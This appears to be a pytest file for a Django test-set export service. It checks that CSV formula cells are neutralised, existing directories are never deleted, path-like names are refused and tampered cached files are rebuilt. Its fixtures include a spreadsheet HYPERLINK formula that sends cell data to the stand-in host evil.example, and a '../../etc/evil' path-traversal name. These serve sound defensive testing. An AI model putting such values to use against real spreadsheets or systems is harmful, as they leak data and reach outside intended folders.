"""Exports that are safe to open and to write: formula cells neutralised in CSV, an existing directory
never deleted, names from users kept inside the export folder, cached files checked before serving."""
import csv
import hashlib
import io

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from rest_framework.test import APIClient

from conftest import user_with_role
from testsets.exports import csv_cell_safe, export_version
from testsets.models import TestItem, TestSet, TestSetVersion
from testsets.services.promotion import canonical
from testsets.services.versions import canonical_cache_path, testset_freeze

NAME = "safety"
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]


@pytest.fixture
def version(db, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    testset = TestSet.objects.create(name=NAME)
    draft = TestSetVersion.objects.create(testset=testset, number=1)
    items = [{"key": f"k{i}", "source": "prod", "query": q, "response": "-fine", "reference_answer": "=1",
              "verdict": "correct", "contexts": ["=ctx"], "conversation": [], "failure_modes": [], "stratum": "none",
              "inclusion_probability": 1.0, "provenance": {}} for i, q in enumerate(FORMULAS + ["plain - text"])]
    TestItem.objects.bulk_create([TestItem(version=draft, content_sha256=hashlib.sha256(canonical(i)).hexdigest(), **i)
                                  for i in items])
    return testset_freeze(name=NAME)


def rows(path):
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(version, tmp_path):
    out = rows(export_version(version, "csv", tmp_path / "x.csv"))
    queries = {r["key"]: r["query"] for r in out}
    assert [queries[f"k{i}"] for i in range(len(FORMULAS))] == ["'" + f for f in FORMULAS]
    assert queries[f"k{len(FORMULAS)}"] == "plain - text"  # not at the start: left alone
    assert {r["response"] for r in out} == {"'-fine"} and {r["reference_answer"] for r in out} == {"'=1"}
    assert {r["contexts"] for r in out} == {'["=ctx"]'}  # JSON text starts with [ : nothing to do
    assert csv_cell_safe("1.5") == "1.5" and csv_cell_safe("") == ""


def test_csv_raw_keeps_every_cell_as_it_is(version, tmp_path):
    target = tmp_path / "raw.csv"
    call_command("export_testset", NAME, "--version", "1", "--format", "csv", "--output", str(target), "--csv-raw",
                 stdout=io.StringIO())
    assert [r["query"] for r in rows(target)][:len(FORMULAS)] == FORMULAS


def test_output_never_deletes_an_existing_directory(version, tmp_path):
    folder = tmp_path / "precious"
    folder.mkdir()
    (folder / "thesis.txt").write_text("years of work")
    for fmt in ("jsonl", "csv", "hf"):
        with pytest.raises(CommandError, match="existing directory"):
            call_command("export_testset", NAME, "--version", "1", "--format", fmt, "--output", str(folder),
                         stdout=io.StringIO())
    assert (folder / "thesis.txt").read_text() == "years of work" and len(list(folder.iterdir())) == 1
    # an existing file is replaced (atomically), as before
    target = tmp_path / "out.jsonl"
    target.write_text("old")
    export_version(version, "jsonl", target)
    assert hashlib.sha256(target.read_bytes()).hexdigest() == version.sha256


def test_a_test_set_name_that_is_a_path_is_refused(db):
    with pytest.raises(CommandError, match="not a test set name"):
        call_command("promote", "--testset", "../../etc/evil", stdout=io.StringIO())
    assert not TestSet.objects.exists()


def test_a_cached_export_that_no_longer_matches_its_hash_is_written_again(version, settings):
    client = APIClient()
    client.force_authenticate(user_with_role("v", "viewer"))
    url = f"/api/testsets/{NAME}/versions/1/export/"

    def download(fmt):
        response = client.get(url + f"{fmt}/")
        assert response.status_code == 200
        return b"".join(response.streaming_content)

    first = {fmt: download(fmt) for fmt in ("jsonl", "csv")}
    assert hashlib.sha256(first["jsonl"]).hexdigest() == version.sha256
    for fmt, name in (("jsonl", f"{NAME}-v1.jsonl"), ("csv", f"{NAME}-v1.csv")):
        cached = settings.MEDIA_ROOT / "exports" / version.sha256 / name
        assert cached.exists()
        cached.write_bytes(b"tampered\n")  # a disk error, or someone with access to the volume
        assert download(fmt) == first[fmt]
    # the canonical bytes kept at freeze are checked too before they are copied
    canonical_cache_path(version.sha256).write_bytes(b"also tampered\n")
    (settings.MEDIA_ROOT / "exports" / version.sha256 / f"{NAME}-v1.jsonl").unlink()
    assert download("jsonl") == first["jsonl"]


def test_a_draft_is_not_served_for_download(version, settings):
    TestSetVersion.objects.create(testset=version.testset, number=2)
    client = APIClient()
    client.force_authenticate(user_with_role("v", "viewer"))
    response = client.get(f"/api/testsets/{NAME}/versions/2/export/jsonl/")
    assert response.status_code == 400 and "draft" in response.json()["version"]
    assert not any((settings.MEDIA_ROOT / "exports").rglob("*v2*"))
